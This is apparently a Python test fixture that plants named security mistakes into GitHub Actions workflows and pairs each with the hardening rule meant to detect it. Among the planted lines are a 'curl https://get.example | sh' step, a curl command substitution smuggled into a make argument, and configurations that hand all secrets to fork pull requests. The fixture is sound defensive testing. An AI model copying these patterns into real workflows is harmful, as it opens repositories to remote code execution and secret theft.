"""Mistakes planted into the workflows' security, by name: the rule that must find each, and how."""

from collections.abc import Mapping

from tests.pipeline.edits import Edit, added, fields, job_of, started_on, step, top
from tests.pipeline.hardening import OWN_BRANCHES_ONLY

PLANTED: Mapping[str, tuple[str, Edit]] = {
    "an action by its tag": (
        "actions_are_pinned",
        added("ci", "check", uses="actions/cache@v5"),
    ),
    "an action by its branch": (
        "actions_are_pinned",
        added("deploy", "staging", uses="some/action@main"),
    ),
    "an action by a short hash": (
        "actions_are_pinned",
        added("ci", "scan", uses="actions/cache@27d5ce7"),
    ),
    "everything may be written": (
        "nothing_is_permitted_at_the_top",
        top("nightly", permissions="write-all"),
    ),
    "nothing said about rights at the top": (
        "nothing_is_permitted_at_the_top",
        lambda workflows: workflows["ci"].pop("permissions"),
    ),
    "a job without permissions of its own": (
        "each_job_says_its_permissions",
        lambda workflows: job_of("drift", "drift")(workflows).pop("permissions"),
    ),
    "a checkout that keeps the token": (
        "checkouts_keep_no_credentials",
        step("deploy", "production", "actions/checkout", **{"with": {"fetch-depth": 0}}),
    ),
    "a job without an end": (
        "jobs_end_in_time",
        lambda workflows: job_of("nightly", "soak")(workflows).pop("timeout-minutes"),
    ),
    "a pull request that gets secrets": (
        "no_event_hands_secrets_to_forks",
        top("preview", on={"pull_request_target": None}),
    ),
    "a workflow after a fork's workflow": (
        "no_event_hands_secrets_to_forks",
        top("deploy", on={"workflow_run": {"workflows": ["ci"]}}),
    ),
    "an event that nobody thought of": (
        "no_event_hands_secrets_to_forks",
        started_on("preview", "pull_request_review"),
    ),
    "a drift check in pull requests": (
        "forks_code_sees_no_secret",
        started_on("drift", "pull_request"),
    ),
    "a deploy that a fork's workflow calls": (
        "forks_code_sees_no_secret",
        lambda workflows: workflows["ci"]["jobs"].update(
            other={"uses": "./.github/workflows/rollback.yml", "permissions": {"contents": "read"}}
        ),
    ),
    "a comment for forks, too": (
        "forks_code_sees_no_secret",
        fields("preview", "comment", **{"if": f"always() || {OWN_BRANCHES_ONLY}"}),
    ),
    "a secret for all jobs of a fork": (
        "forks_code_sees_no_secret",
        top("ci", env={"TOKEN": "${{ secrets.PULUMI_ACCESS_TOKEN }}"}),
    ),
    "all secrets by another spelling": (
        "forks_code_sees_no_secret",
        step("ci", "check", "make", env={"ALL": "${{ toJSON(secrets) }}"}),
    ),
    "a fork with a secret": (
        "forks_code_sees_no_secret",
        step("preview", "render", "make", env={"TOKEN": "${{ secrets.PULUMI_ACCESS_TOKEN }}"}),
    ),
    "a fork with all secrets": (
        "forks_code_sees_no_secret",
        fields("ci", "test", secrets="inherit"),
    ),
    "a fork in an environment": (
        "forks_code_sees_no_secret",
        fields("preview", "render", environment="production"),
    ),
    "a fork with an identity": (
        "forks_code_sees_no_secret",
        fields("preview", "render", permissions={"contents": "read", "id-token": "write"}),
    ),
    "a comment by the code of a merge": (
        "writers_run_reviewed_code",
        step(
            "preview",
            "comment",
            "actions/checkout",
            **{"with": {"ref": "${{ github.sha }}", "repository": "pull_request.base.sha"}},
        ),
    ),
    "a comment by the code that was sent": (
        "writers_run_reviewed_code",
        step("preview", "comment", "actions/checkout", **{"with": {"persist-credentials": False}}),
    ),
    "a branch's name in a script": (
        "no_expression_in_a_script",
        added("preview", "render", run="echo ${{ github.head_ref }}"),
    ),
    "a script in a workflow": (
        "each_step_is_one_command",
        added("deploy", "staging", run="curl https://get.example | sh"),
    ),
    "a command that ignores its errors": (
        "each_step_is_one_command",
        step("ci", "check", "make check", run="make --ignore-errors check"),
    ),
    "a command whose failure nobody sees": (
        "each_step_is_one_command",
        step("deploy", "production", "make deploy", run='make deploy IMAGE="$(make image)"'),
    ),
    "a command in a command": (
        "each_step_is_one_command",
        step("ci", "check", "make check", run="make check $(curl https://get.example)"),
    ),
    "a key that never ends": (
        "identities_are_short_lived",
        step("deploy", "staging", "make deploy", env={"AWS_SECRET_ACCESS_KEY": "x"}),
    ),
    "an identity that nobody uses": (
        "identities_are_short_lived",
        fields("nightly", "bench", permissions={"contents": "read", "id-token": "write"}),
    ),
    "a token for everything in a workflow": (
        "tokens_go_to_few_steps",
        top("drift", env={"GH_TOKEN": "${{ github.token }}"}),
    ),
    "a token for everything in a job": (
        "tokens_go_to_few_steps",
        fields("deploy", "staging", env={"GH_TOKEN": "${{ github.token }}"}),
    ),
}
